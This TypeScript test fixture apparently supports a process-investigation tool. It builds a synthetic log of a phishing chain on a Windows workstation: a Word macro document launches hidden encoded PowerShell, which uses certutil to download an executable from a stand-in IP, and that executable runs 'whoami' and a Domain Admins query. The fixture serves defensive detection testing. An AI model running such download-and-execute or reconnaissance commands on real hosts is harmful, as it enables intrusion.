import { type ProcessActivity, type ProcessCreation } from '../../src/core/processes/activity';

/** When the scenes happen, milliseconds since 1970 UTC: the middle of the range that they are shown in. */
export const STORY_START = Date.UTC(2026, 2, 10, 9);
export const STORY_HOST = 'FIN-WS-07';
/** Image of the process that the story's alert is about. */
export const ALERT_IMAGE = 'powershell.exe';

const SYSTEM = 'C:\\Windows\\System32\\';
const SHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`;

/** A creation with everything that a scene does not care about filled in; parents are named by their pid. */
export const started = (given: Partial<ProcessCreation>): ProcessCreation => ({
  row: 0,
  host: STORY_HOST,
  pid: null,
  path: `${SYSTEM}cmd.exe`,
  commandLine: 'cmd.exe',
  user: 'CONTOSO\\dana',
  start: STORY_START,
  logPosition: null,
  parentPid: null,
  parentPath: '',
  subjectLogonId: '0x1a2b3c',
  targetLogonId: '0x0',
  uniqueId: '',
  parentUniqueId: '',
  ...given,
});

/** Creations in the order of their rows. */
export const logOf = (creations: ReadonlyArray<Partial<ProcessCreation>>): ProcessActivity => ({
  created: creations.map((creation, row) => started({ ...creation, row })),
  exited: [],
  booted: [],
});

/** A document that starts a hidden shell, which fetches a tool and looks round. */
export function storyLog(): ProcessActivity {
  const steps: ReadonlyArray<readonly [pid: number, parentPid: number, path: string, commandLine: string]> = [
    [4_312, 1_044, 'C:\\Windows\\explorer.exe', 'explorer.exe'],
    [
      5_120,
      4_312,
      'C:\\Program Files\\Office\\WINWORD.EXE',
      '"WINWORD.EXE" /n "C:\\Users\\dana\\Downloads\\Invoice.docm"',
    ],
    [5_388, 5_120, SHELL, 'powershell.exe -nop -w hidden -enc dwByAGkAdABlAC0AbwB1AHQAcAB1AHQAIABoAGUAbABsAG8A'],
    [
      5_440,
      5_388,
      `${SYSTEM}certutil.exe`,
      'certutil -urlcache -split -f http://198.51.100.23/t.bin C:\\ProgramData\\t.exe',
    ],
    [5_512, 5_388, 'C:\\ProgramData\\t.exe', 't.exe --quiet --host FIN-WS-07'],
    [5_560, 5_512, `${SYSTEM}cmd.exe`, 'cmd.exe /c whoami /all'],
    [5_564, 5_560, `${SYSTEM}whoami.exe`, 'whoami /all'],
    [5_600, 5_512, `${SYSTEM}net.exe`, 'net group "Domain Admins" /domain'],
    [5_644, 5_120, 'C:\\Program Files\\Office\\splwow64.exe', 'splwow64.exe 8192'],
  ];
  const paths = new Map(steps.map(([pid, , path]) => [pid, path]));
  return {
    ...logOf(
      steps.map(([pid, parentPid, path, commandLine], step) => ({
        pid,
        parentPid,
        path,
        commandLine,
        parentPath: paths.get(parentPid) ?? 'C:\\Windows\\System32\\userinit.exe',
        start: STORY_START + step * 7_000,
      }))
    ),
    exited: [{ host: STORY_HOST, pid: 5_564, path: `${SYSTEM}whoami.exe`, time: STORY_START + 45_000 }],
  };
}
